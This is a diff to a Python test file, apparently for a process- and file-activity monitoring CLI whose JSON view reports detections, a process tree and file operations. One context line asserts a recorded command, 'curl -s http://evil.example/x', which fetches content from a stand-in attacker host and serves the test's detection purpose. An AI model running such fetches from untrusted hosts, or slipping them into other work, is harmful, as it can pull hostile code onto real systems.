@@ -87,7 +87,9 @@ def test_view_json(cli):
     assert doc["meta"]["run_id"] == RID and doc["counts"]["file"] == 7 and doc["processes"] == 2
     assert [g["rule_id"] for g in doc["detections"]] == ["R010", "R020"]
     assert doc["tree"][0]["children"][0]["argv"] == ["curl", "-s", "http://evil.example/x"]
-    assert {"op": "delete", "path": "/home/u/proj/old 100%_x.txt", "path2": None, "count": 1} in doc["files"]
+    assert {"op": "delete", "path": "/home/u/proj/old 100%_x.txt", "path2": None, "count": 1, "errno": 0,
+            "pseudo": False} in doc["files"]
+    assert doc["denied"] == [] and doc["pseudo_hidden"] == 0
 
 
 def test_view_flags_after_selector_and_ts_both_untruncated(cli):
